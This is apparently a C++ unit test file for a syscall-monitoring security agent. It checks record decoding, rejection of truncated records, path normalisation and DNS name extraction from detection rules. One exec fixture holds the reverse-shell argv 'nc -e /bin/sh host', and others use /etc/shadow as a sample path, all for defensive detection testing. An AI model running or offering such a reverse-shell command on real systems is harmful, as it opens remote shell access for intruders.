// The decoder treats kernel records as untrusted bytes: built records decode to
// the right Event, and truncated or lying records are rejected, not read past.
#include <fcntl.h>
#include <sys/syscall.h>

#include <cstring>
#include <vector>

#include <gtest/gtest.h>

#include "runtime/bpf/capture_abi.h"
#include "runtime/probe/decode.hpp"
#include "runtime/probe/syscalls.hpp"

namespace bulwark::runtime::probe {
namespace {

struct Builder {
  std::vector<std::uint8_t> bytes = std::vector<std::uint8_t>(sizeof(bw_header));
  bw_header& h() { return *reinterpret_cast<bw_header*>(bytes.data()); }
  Builder& field(std::uint16_t tag, std::string_view value) {
    bw_field_hdr fh{tag, static_cast<std::uint16_t>(value.size())};
    auto at = bytes.size();
    bytes.resize(at + sizeof(fh) + ((value.size() + 3) & ~std::size_t{3}));
    std::memcpy(bytes.data() + at, &fh, sizeof(fh));
    std::memcpy(bytes.data() + at + sizeof(fh), value.data(), value.size());
    h().nfields++;
    return *this;
  }
  std::vector<std::uint8_t> done() {
    h().size = static_cast<std::uint32_t>(bytes.size());
    return bytes;
  }
};

TEST(Decode, OpenatRelativeToDirfd) {
  Builder b;
  b.h().kind = BW_KIND_SYSCALL;
  b.h().syscall_nr = SYS_openat;
  b.h().ret = 3;
  b.h().pid = 42;
  b.h().tid = 43;
  b.h().euid = 1000;
  b.h().args[0] = 5;
  b.h().args[2] = O_WRONLY | O_TRUNC;
  std::memcpy(b.h().comm, "logrotate", 9);
  b.field(BW_F_PATH, "../log/syslog").field(BW_F_DIRFD_PATH, "/var/tmp");
  auto rec = b.done();
  Event ev;
  ASSERT_TRUE(decode_record(rec, {.boot_to_wall_ns = 1000}, ev));
  EXPECT_EQ(ev.type, EventType::openat);
  EXPECT_EQ(ev.args.path, "../log/syslog");
  EXPECT_EQ(ev.args.resolved_path, "/var/log/syslog");
  EXPECT_EQ(ev.args.dirfd, 5);
  EXPECT_EQ(ev.args.flags, static_cast<std::uint64_t>(O_WRONLY | O_TRUNC));
  EXPECT_EQ(ev.uid, 1000u);
  EXPECT_EQ(ev.comm, "logrotate");
  EXPECT_EQ(ev.ts_ns, 1000u);
}

TEST(Decode, ExecSplitsArgvAndMapsFlags) {
  Builder b;
  b.h().kind = BW_KIND_EXEC;
  b.h().exec_flags = BW_EXEC_UPPER_LAYER;
  b.h().tty = (136u << 20) | 0;
  std::string argv("nc\0-e\0/bin/sh\0host\0", 20);
  b.field(BW_F_EXE, "/usr/bin/nc").field(BW_F_EXEPATH, "/usr/bin/nc.openbsd").field(BW_F_CWD, "/root");
  b.field(BW_F_ARGV, argv).field(BW_F_CGROUP, "abc");
  auto rec = b.done();
  Event ev;
  DecodeExtra extra;
  ASSERT_TRUE(decode_record(rec, {}, ev, &extra));
  EXPECT_EQ(ev.type, EventType::execve);
  ASSERT_TRUE(ev.exec);
  EXPECT_EQ(ev.exec->exe, "/usr/bin/nc.openbsd");
  EXPECT_EQ(ev.exec->exe_arg0, "nc");
  EXPECT_EQ(ev.exec->argv, (std::vector<std::string>{"nc", "-e", "/bin/sh", "host"}));
  EXPECT_EQ(ev.exec->cwd, "/root");
  EXPECT_EQ(ev.exec->exe_flags, static_cast<std::uint32_t>(kExeUpperLayer));
  EXPECT_NE(ev.exec->tty, 0u);
  EXPECT_EQ(ev.args.path, "/usr/bin/nc");
  EXPECT_EQ(extra.cgroup_leaf, "abc");
}

TEST(Decode, ConnectTupleFromSocketAndSockaddr) {
  Builder b;
  b.h().kind = BW_KIND_SYSCALL;
  b.h().syscall_nr = SYS_connect;
  b.h().ret = -115;  // EINPROGRESS
  b.h().args[0] = 3;
  bw_tuple t{};
  t.family = 2;
  t.protocol = 6;
  t.sport = 40000;
  t.saddr[0] = 10;
  std::string sa(16, '\0');
  sa[0] = 2;                        // AF_INET
  sa[2] = static_cast<char>(0x01);  // port 443 big-endian
  sa[3] = static_cast<char>(0xbb);
  sa[4] = 10, sa[5] = 96, sa[6] = 0, sa[7] = 1;  // 10.96.0.1
  b.field(BW_F_SOCKADDR, sa).field(BW_F_TUPLE, std::string_view(reinterpret_cast<char*>(&t), sizeof(t)));
  auto rec = b.done();
  Event ev;
  ASSERT_TRUE(decode_record(rec, {}, ev));
  EXPECT_EQ(ev.args.tuple.family, 2u);
  EXPECT_EQ(ev.args.tuple.client.port, 40000);
  EXPECT_EQ(ev.args.tuple.server.port, 443);  // the socket had no peer yet: the sockaddr names it
  EXPECT_EQ(ev.args.tuple.server.addr[1], 96);
  EXPECT_EQ(ev.args.tuple.l4proto, 6u);
}

TEST(Decode, RejectsTruncatedAndLyingRecords) {
  Event ev;
  std::vector<std::uint8_t> tiny(10);
  EXPECT_FALSE(decode_record(tiny, {}, ev));

  Builder b;
  b.h().kind = BW_KIND_SYSCALL;
  b.h().syscall_nr = SYS_unlink;
  b.field(BW_F_PATH, "/etc/shadow");
  auto rec = b.done();
  // A field length past the record's end.
  auto bad = rec;
  reinterpret_cast<bw_field_hdr*>(bad.data() + sizeof(bw_header))->len = 4000;
  EXPECT_FALSE(decode_record(bad, {}, ev));
  // More fields announced than present.
  bad = rec;
  reinterpret_cast<bw_header*>(bad.data())->nfields = 9;
  EXPECT_FALSE(decode_record(bad, {}, ev));
  // A size larger than the bytes.
  bad = rec;
  reinterpret_cast<bw_header*>(bad.data())->size = static_cast<std::uint32_t>(rec.size() + 64);
  EXPECT_FALSE(decode_record(bad, {}, ev));
  // An unknown kind and an unknown syscall.
  bad = rec;
  reinterpret_cast<bw_header*>(bad.data())->kind = 99;
  EXPECT_FALSE(decode_record(bad, {}, ev));
  bad = rec;
  reinterpret_cast<bw_header*>(bad.data())->syscall_nr = 9999;
  EXPECT_FALSE(decode_record(bad, {}, ev));
  // The intact record decodes.
  ASSERT_TRUE(decode_record(rec, {}, ev));
  EXPECT_EQ(ev.args.path, "/etc/shadow");
  EXPECT_EQ(ev.args.resolved_path, "/etc/shadow");
}

TEST(Decode, NormalizePath) {
  EXPECT_EQ(normalize_path("/etc/../etc/./shadow"), "/etc/shadow");
  EXPECT_EQ(normalize_path("/../../x"), "/x");
  EXPECT_EQ(normalize_path("//a//b/"), "/a/b");
  EXPECT_EQ(resolve_path("", "rel"), "");
  EXPECT_EQ(resolve_path("/root", "a/../b"), "/root/b");
}

TEST(Syscalls, FilterFollowsEventTypes) {
  auto f = syscall_filter({EventType::openat, EventType::connect});
  EXPECT_EQ(f, (std::set<std::uint32_t>{SYS_openat, SYS_connect}));
  EXPECT_EQ(event_type_for_syscall(SYS_ptrace), EventType::ptrace);
  EXPECT_FALSE(event_type_for_syscall(SYS_read));
  EXPECT_GT(syscall_filter({}).size(), 50u);
  EXPECT_TRUE(syscalls_for(EventType::execve).empty());  // exec comes from sched_process_exec
}

}  // namespace
}  // namespace bulwark::runtime::probe

#include "runtime/probe/dns_names.hpp"

namespace bulwark::runtime::probe {
namespace {

TEST(DnsNames, FoundInRuleText) {
  auto names = sip_names_in_rules(
      "- macro: k8s_api_server\n  condition: (fd.sip.name=\"kubernetes.default.svc.cluster.local\")\n"
      "- rule: x\n  condition: fd.sip.name in (a.example.com, 'b.example.org', nodots) and fd.sip.name = "
      "c.example.net\n");
  EXPECT_EQ(names, (std::vector<std::string>{"kubernetes.default.svc.cluster.local", "a.example.com", "b.example.org",
                                             "c.example.net"}));
  EXPECT_TRUE(sip_names_in_rules("fd.sip = 1.2.3.4").empty());
}

TEST(DnsNames, ResolvesLocalhost) {
  auto r = resolve_names({"localhost"});
  bool v4 = std::any_of(r.begin(), r.end(), [](const auto& p) { return p.first == "127.0.0.1"; });
  EXPECT_TRUE(v4);
  EXPECT_TRUE(resolve_names({"no-such-host.invalid"}).empty());
}

}  // namespace
}  // namespace bulwark::runtime::probe
